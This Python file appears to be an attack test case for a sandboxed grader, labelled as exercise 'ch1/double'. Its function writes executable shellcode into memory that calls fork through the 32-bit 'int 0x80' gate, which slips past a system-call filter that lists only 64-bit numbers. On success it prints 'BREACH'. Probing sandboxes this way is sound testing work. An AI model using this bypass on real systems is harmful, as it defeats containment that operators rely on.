# /// attack
# kind = "harming"
# exercise = "ch1/double"
# verdicts = ["crashed", "forbidden"]
# reason = "Forks through the gate for 32-bit programs, whose numbers the filter does not list; it ends the process."
# ///
import ctypes
import mmap
import os


def double(value):
    if os.uname().machine != "x86_64":
        raise PermissionError("there is no such gate here")
    # mov eax, 2 (fork); int 0x80; ret
    code = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, 7)
    code[:8] = b"\xb8\x02\x00\x00\x00\xcd\x80\xc3"
    result = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()
    if result == 0:
        os._exit(0)
    if result > 0:
        print("BREACH: forked", result, flush=True)
    raise PermissionError(f"result {result}")
